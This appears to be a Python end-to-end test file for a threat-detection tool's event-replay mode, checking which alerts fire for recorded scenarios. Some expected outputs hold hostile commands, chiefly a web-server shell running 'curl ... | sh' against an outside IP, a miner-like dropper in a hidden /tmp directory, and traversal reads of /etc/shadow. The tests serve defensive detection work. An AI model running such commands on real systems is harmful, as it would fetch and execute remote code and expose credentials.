"""`vigil watch --replay`: recorded scenarios (a web server spawning a shell, a dropper, an ordinary build) through
the example rules of docs/watch.md and the built-in rules; bad event lines, bad rules, stdin, --output, and the
live sensor refusing to start without privileges."""
import json
import os
import shutil
import subprocess
import tempfile
import unittest

from vigil_e2e import DATA, VIGIL, watch_schema_errors

EVENTS = os.path.join(DATA, "watch", "events")
RULES = os.path.join(EVENTS, "scenario_rules.yaml")


def watch(*args, input=None):
    return subprocess.run([VIGIL, "watch", *args], capture_output=True, text=True, timeout=120, input=input)


def detections(proc):
    found = [json.loads(line) for line in proc.stdout.splitlines()]
    problems = watch_schema_errors(found, [d["event"] for d in found])
    if problems:
        raise AssertionError(f"detections break docs/schemas/detection.schema.json:\n{problems}")
    return found


def scenario(name):
    return os.path.join(EVENTS, name + ".jsonl")


class WatchReplayTest(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix="vigil-watch-")

    def tearDown(self):
        shutil.rmtree(self.tmp, ignore_errors=True)

    def replay(self, name, *args):
        proc = watch("--replay", scenario(name), *args)
        self.assertEqual(proc.returncode, 0, proc.stderr)
        self.assertEqual(proc.stderr, "")
        return detections(proc)

    def test_web_server_spawning_a_shell(self):
        found = self.replay("webshell", "--rules", RULES)
        self.assertEqual(len(found), 1, found)
        d = found[0]
        self.assertEqual(d["rule"], "Shell spawned by a web server")
        self.assertEqual(d["priority"], "WARNING")
        self.assertEqual(d["tags"], ["process", "mitre_execution", "T1059.004"])
        self.assertEqual(d["output"],
                         "shell sh -c id; uname -a; curl -s http://203.0.113.7/s.sh | sh started by nginx "
                         "(pid 2201, user 33)")
        self.assertEqual(d["time"], "2026-11-18T11:06:40.049000000Z")
        self.assertEqual(d["process"]["pid"], 2201)
        self.assertEqual(d["process"]["ppid"], 813)
        self.assertEqual(d["process"]["exe"], "/bin/sh")
        self.assertEqual([a["exe"] for a in d["process"]["ancestors"]], ["/usr/sbin/nginx", "/usr/sbin/nginx", ""])
        self.assertEqual(d["event"]["type"], "execve")
        self.assertEqual(d["event"]["argv"], ["sh", "-c", "id; uname -a; curl -s http://203.0.113.7/s.sh | sh"])
        self.assertEqual(d["repeats"], 1)

    def test_dropper_download_chmod_exec(self):
        found = self.replay("dropper", "--rules", RULES)
        self.assertEqual([d["rule"] for d in found], ["Dropped binary executed"])
        self.assertEqual(found[0]["output"], "/tmp/.X11-cache/kworker runs a file it wrote: kworker --donate-level 1")
        self.assertEqual(found[0]["priority"], "CRITICAL")
        self.assertEqual(found[0]["process"]["ancestors"][0]["cmdline"], "python3 /home/dev/.local/bin/update-helper")

    def test_build_session_gives_nothing(self):
        self.assertEqual(self.replay("build_session", "--rules", RULES), [])
        self.assertEqual(self.replay("build_session"), [])  # the built-in rules

    def test_builtin_rules(self):
        self.assertEqual([d["rule"] for d in self.replay("webshell")], ["Shell spawned by a service"])
        self.assertEqual([d["rule"] for d in self.replay("dropper")],
                         ["Program run from a hidden or shared-memory directory",
                          "Downloaded file made executable and run", "Connection to a crypto-miner pool port"])

    def test_stdin_and_output_file(self):
        with open(scenario("dropper"), encoding="utf-8") as f:
            events = f.read()
        out = os.path.join(self.tmp, "detections.jsonl")
        proc = watch("--replay", "-", "--rules", RULES, "--output", out, input=events)
        self.assertEqual(proc.returncode, 0, proc.stderr)
        self.assertEqual(proc.stdout, "")
        with open(out, encoding="utf-8") as f:
            lines = f.read().splitlines()
        self.assertEqual([json.loads(line)["rule"] for line in lines], ["Dropped binary executed"])
        self.assertEqual(os.listdir(self.tmp), ["detections.jsonl"])  # no temporary file left behind

    def test_replayed_paths_are_made_normal_before_the_rules(self):
        def read_of(path, pid):
            return json.dumps({"type": "open", "time_ns": 1795000000000000000 + pid, "pid": pid, "tid": pid,
                               "ppid": 1, "uid": 0, "gid": 0, "comm": "cat", "path": path, "flags": 0, "ret": 3})
        events = "\n".join(read_of(path, pid) for pid, path in
                           [(4001, "/tmp/../etc/shadow"), (4002, "//etc/./shadow"), (4003, "/etc/shadow.d/../hostname")])
        proc = watch("--replay", "-", input=events + "\n")
        self.assertEqual(proc.returncode, 0, proc.stderr)
        found = detections(proc)
        self.assertEqual([(d["process"]["pid"], d["event"]["path"]) for d in found],
                         [(4001, "/etc/shadow"), (4002, "/etc/shadow")])
        self.assertEqual({d["rule"] for d in found}, {"Credential file read by an unexpected process"})

    def test_bad_event_lines_are_warnings(self):
        with open(scenario("webshell"), encoding="utf-8") as f:
            good = f.read().splitlines()
        bad = ["not json", '{"type":"fork"}', '{"type":"open","pid":"x"}'] + ["[]"] * 30
        path = os.path.join(self.tmp, "mixed.jsonl")
        with open(path, "w", encoding="utf-8") as f:
            f.write("\n".join(bad[:3] + good + bad[3:]) + "\n")
        proc = watch("--replay", path, "--rules", RULES)
        self.assertEqual(proc.returncode, 0, proc.stderr)
        self.assertEqual([d["rule"] for d in detections(proc)], ["Shell spawned by a web server"])
        warnings = proc.stderr.splitlines()
        self.assertEqual(len(warnings), 21)
        self.assertTrue(warnings[0].startswith(f"warning: {path}:1: invalid JSON"), warnings[0])
        self.assertEqual(warnings[1], f'warning: {path}:2: unknown event type "fork"')
        self.assertEqual(warnings[2], f'warning: {path}:3: "pid": expected an integer')
        self.assertEqual(warnings[3], f"warning: {path}:{3 + len(good) + 1}: an event is a JSON object")
        self.assertEqual(warnings[20], f"warning: {path}: 13 more bad lines")

    def test_over_long_line_and_no_final_newline(self):
        with open(scenario("webshell"), encoding="utf-8") as f:
            good = f.read().splitlines()
        good = good[:next(i for i, line in enumerate(good) if '"sh","-c"' in line) + 1]  # ends with the match
        huge = '{"type":"open","path":"' + "a" * (5 << 20) + '"}'
        path = os.path.join(self.tmp, "long.jsonl")
        with open(path, "w", encoding="utf-8") as f:
            f.write(huge + "\n" + "\n".join(good))  # the last event has no newline after it
        proc = watch("--replay", path, "--rules", RULES)
        self.assertEqual(proc.returncode, 0, proc.stderr)
        self.assertEqual(proc.stderr, f"warning: {path}:1: line longer than 4 MiB, skipped\n")
        self.assertEqual([d["rule"] for d in detections(proc)], ["Shell spawned by a web server"])

    def test_bad_rules_are_errors_listed_together(self):
        rules = os.path.join(self.tmp, "bad.yaml")
        with open(rules, "w", encoding="utf-8") as f:
            f.write("- rule: A\n  desc: d\n  condition: proc.nope = 1\n  output: x\n  priority: WARNING\n"
                    "- rule: B\n  desc: d\n  condition: evt.type = execve\n  output: x\n  priority: LOUD\n")
        proc = watch("--replay", scenario("webshell"), "--rules", rules)
        self.assertEqual(proc.returncode, 2)
        self.assertEqual(proc.stdout, "")
        errors = proc.stderr.splitlines()
        self.assertEqual(len(errors), 2, proc.stderr)
        self.assertTrue(errors[0].startswith(f"error: {rules}:3: "), errors[0])
        self.assertTrue(errors[1].startswith(f"error: {rules}:10: "), errors[1])

    def test_every_builtin_scenario_gives_schema_valid_detections(self):
        default = os.path.join(DATA, "watch", "default")
        fired = set()
        for name in sorted(os.listdir(default)):
            proc = watch("--replay", os.path.join(default, name))
            self.assertEqual(proc.returncode, 0, proc.stderr)
            fired.update(d["rule"] for d in detections(proc))  # detections() checks the schema
        listed = json.loads(subprocess.run([VIGIL, "rules", "list", "-f", "json"], capture_output=True, text=True,
                                           check=True).stdout)["rules"]
        self.assertEqual(fired, {r["rule"] for r in listed})

    def test_record_needs_the_live_sensor(self):
        record = os.path.join(self.tmp, "rec.jsonl")
        proc = watch("--replay", scenario("webshell"), "--record", record)
        self.assertEqual(proc.returncode, 2)
        self.assertIn("--record keeps the live sensor's events", proc.stderr)
        self.assertFalse(os.path.exists(record))

    def test_live_sensor_refuses_without_privileges(self):
        # No capabilities (a non-root user, or root with its bounding set emptied): a clear message, exit 2.
        argv = [VIGIL, "watch", "--duration", "1"]
        if os.geteuid() == 0:
            argv = ["setpriv", "--bounding-set=-all", "--inh-caps=-all", *argv]
        proc = subprocess.run(argv, capture_output=True, text=True, timeout=60)
        self.assertEqual(proc.returncode, 2, proc.stderr)
        self.assertIn("loading the eBPF probes needs root", proc.stderr)
        self.assertIn("--replay FILE", proc.stderr)

    def test_missing_replay_file(self):
        proc = watch("--replay", os.path.join(self.tmp, "absent.jsonl"), "--rules", RULES)
        self.assertEqual(proc.returncode, 2)
        self.assertIn("absent.jsonl: cannot open", proc.stderr)

    def test_help_has_examples(self):
        proc = watch("--help")
        self.assertEqual(proc.returncode, 0)
        self.assertIn("vigil watch --replay events.jsonl", proc.stdout)


if __name__ == "__main__":
    unittest.main()
